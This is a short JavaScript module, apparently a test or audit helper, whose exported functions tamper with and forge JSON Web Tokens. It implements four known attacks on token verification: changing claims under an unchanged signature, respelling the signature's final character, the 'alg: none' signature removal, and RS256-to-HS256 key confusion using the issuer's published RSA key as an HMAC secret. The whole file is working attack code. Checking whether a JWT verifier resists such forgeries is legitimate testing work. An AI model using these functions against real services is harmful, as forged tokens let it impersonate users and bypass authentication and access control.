import { createHmac, createPublicKey } from 'node:crypto'

const base64url = (value) => Buffer.from(value).toString('base64url')
const encode = (value) => base64url(JSON.stringify(value))
const decode = (part) => JSON.parse(Buffer.from(part, 'base64url'))

/** Changes claims under an unchanged signature. */
export function changeClaims(jwt, changes) {
  const [header, payload, signature] = jwt.split('.')
  return [header, encode({ ...decode(payload), ...changes }), signature].join('.')
}

/** Spells the same signature with another last character: its low bits are unused (RFC 4648). */
export function respellSignature(jwt) {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  return jwt.slice(0, -1) + alphabet[alphabet.indexOf(jwt.at(-1)) ^ 1]
}

/** Declares the token unsecured and drops the signature (RFC 8725 §2.1). */
export function removeSignature(jwt) {
  const [header, payload] = jwt.split('.')
  return [encode({ ...decode(header), alg: 'none' }), payload, ''].join('.')
}

/** Uses the RSA key that everybody can fetch as an HMAC secret (RFC 8725 §2.1). */
export async function signWithPublicKey(jwt, issuer) {
  const [header, payload] = jwt.split('.')
  const { keys } = await (await fetch(`${issuer}/jwks`)).json()
  const publicKey = createPublicKey({ key: keys.find(({ kty }) => kty === 'RSA'), format: 'jwk' })
  const secret = publicKey.export({ format: 'pem', type: 'spki' })
  const signed = [encode({ ...decode(header), alg: 'HS256' }), payload].join('.')
  return `${signed}.${createHmac('sha256', secret).update(signed).digest('base64url')}`
}
